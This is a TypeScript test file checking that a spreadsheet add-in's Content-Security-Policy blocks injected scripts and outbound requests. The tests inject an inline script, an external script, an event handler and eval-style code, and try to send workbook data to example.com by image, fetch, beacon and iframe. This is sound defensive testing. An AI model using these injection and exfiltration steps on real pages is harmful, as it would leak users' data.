import type { KeptSheet } from "../app/memory-workbook";
import { sampleSheets } from "../app/sample";
import { setStage, type Stage } from "./stage";

jest.setTimeout(120_000);

let stage: Stage;
let slips: KeptSheet[];

beforeAll(async () => {
  [stage, slips] = await Promise.all([setStage(), sampleSheets("station-with-slips.xlsx")]);
});

afterAll(() => stage?.close());

test("the page's policy lets no script run but its own files and Microsoft's library", async () => {
  const { page } = await stage.open({ sheets: slips });
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
  const directives = new Map(policy!.split(";").map((part) => [part.trim().split(" ")[0]!, part.trim().split(" ").slice(1)]));
  expect(directives.get("default-src")).toEqual(["'none'"]);
  expect(directives.get("script-src")).toEqual(["'self'", "https://appsforoffice.microsoft.com", "https://ajax.aspnetcdn.com"]);
  expect(directives.get("connect-src")).toEqual(["'self'", "https://appsforoffice.microsoft.com"]);
  expect([directives.get("base-uri"), directives.get("form-action")]).toEqual([["'none'"], ["'none'"]]);
  for (const sources of directives.values()) for (const source of sources) expect(source).not.toMatch(/unsafe|\*/);
});

test("a script that got into the page does not run: neither inline, nor from a text, nor from another host", async () => {
  const { page, strangers } = await stage.open({ sheets: slips });
  const outcome = await page.evaluate(
    () =>
      new Promise<Record<string, unknown>>((resolve) => {
        // As the page's own code would, not as the tests' tools may.
        setTimeout(() => {
          const broken: string[] = [];
          document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => broken.push(effectiveDirective));
          const inline = document.createElement("script");
          inline.textContent = "window.ranInline = true";
          document.body.append(inline);
          const foreign = document.createElement("script");
          foreign.src = "https://example.com/foreign.js";
          document.body.append(foreign);
          const handler = document.createElement("div");
          handler.setAttribute("onclick", "window.ranHandler = true");
          document.body.append(handler);
          handler.click();
          let evaluated: unknown;
          try {
            evaluated = new Function("return 1")();
          } catch (error) {
            evaluated = (error as Error).name;
          }
          setTimeout(() => {
            const { ranInline, ranHandler } = window as unknown as { ranInline?: boolean; ranHandler?: boolean };
            resolve({ ranInline, ranHandler, evaluated, broken: [...new Set(broken)].sort() });
          }, 300);
        });
      }),
  );
  expect(outcome).toEqual({
    evaluated: "EvalError",
    broken: expect.arrayContaining(["script-src", "script-src-attr", "script-src-elem"]) as unknown,
  });
  expect(strangers).toEqual([]);
});

test("nothing of the workbook can leave by a request: every way out to another host is shut", async () => {
  const { page, strangers } = await stage.open({ sheets: slips });
  const failed = await page.evaluate(async () => {
    const target = "https://example.com/?cell=1";
    const image = new Image();
    const seen = new Promise((resolve) => (image.onerror = () => resolve("no image")));
    image.src = target;
    const answer = await fetch(target, { mode: "no-cors" }).then(
      () => "fetched",
      () => "no fetch",
    );
    navigator.sendBeacon(target, "1");
    const frame = document.createElement("iframe");
    frame.src = target;
    document.body.append(frame);
    await new Promise((resolve) => setTimeout(resolve, 300));
    return [answer, await seen];
  });
  expect(failed).toEqual(["no fetch", "no image"]);
  expect(strangers).toEqual([]);
});
